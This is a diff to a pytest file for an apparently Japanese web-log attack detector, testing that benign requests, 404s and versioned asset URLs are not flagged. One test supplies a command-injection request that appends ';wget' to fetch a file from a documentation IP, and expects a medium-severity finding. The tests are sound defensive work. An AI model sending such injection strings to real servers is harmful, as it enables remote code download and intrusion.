@@ -61,11 +61,41 @@ def test_log4shell_in_the_agent_is_found(tmp_path: Path) -> None:
         "GET /help?topic=javascript",
         "GET /a?next=https://shop.example.jp/cart",
         "GET /item?name=O'Reilly%20and%20Sons",
+        "GET /list.cgi?page=2;id=5;sort=date",
+        "GET /w/api.php?fields=name|id|mail",
+        "GET /man/system(3)",
+        "GET /man/sleep(3)",
+        "GET /search?query=id",
+        "GET /sitemap.xml.gz",
+        "GET /downloads/website-template.zip",
+        "GET /info.php",
+        "GET /alfa.php",
+        "GET /blog/2026/11/how-to-write-php-code",
+        "GET /server-status?auto",
     ],
 )
 def test_ordinary_requests_are_nothing(tmp_path: Path, request_line: str) -> None:
     """ふつうの要求を、攻撃とは言わない。"""
     assert find(tmp_path, [web(request_line, 200)]) == []
+
+
+@pytest.mark.parametrize(
+    "request_line",
+    ["GET /cgi-bin/bbs.cgi", "GET /hudson-river-tour", "GET /script/menu.js", "GET /sdk-guide", "GET /old"],
+)
+def test_what_is_no_longer_there_is_nothing(tmp_path: Path, request_line: str) -> None:
+    """なくなったページへの要求を、探りとは言わない。"""
+    assert find(tmp_path, [web(request_line, 404, second=i) for i in range(5)]) == []
+
+
+def test_an_answer_of_the_front_page_is_not_the_gravest(tmp_path: Path) -> None:
+    """表紙は何を付けても 200 と答えるので、重大とまでは言わない。"""
+    assert one(tmp_path, "web_injection", web("GET /?x=;wget%20http://192.0.2.1/x", 200)).level == "medium"
+
+
+def test_versions_of_parts_are_no_flood(tmp_path: Path) -> None:
+    """部品に付いた版の番号を、止める攻撃とは言わない。"""
+    assert find(tmp_path, [web(f"GET /p{i}.js?{10**9 + i}", 200, second=i // 10) for i in range(60)]) == []
 
 
 def test_weak_words_count_only_in_numbers(tmp_path: Path) -> None:
